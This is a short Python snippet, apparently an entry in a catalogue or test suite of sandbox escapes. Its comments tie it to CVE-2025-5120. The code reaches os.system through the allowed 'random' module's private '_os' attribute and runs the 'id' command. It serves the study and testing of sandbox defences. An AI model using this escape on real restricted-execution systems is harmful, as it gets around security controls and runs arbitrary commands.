# class: lineage
# mechanism: CVE-2025-5120
# how: CVE-2025-5120: import through an allowed module's attribute
# reaches: event os.system
import random
random._os.system("id")
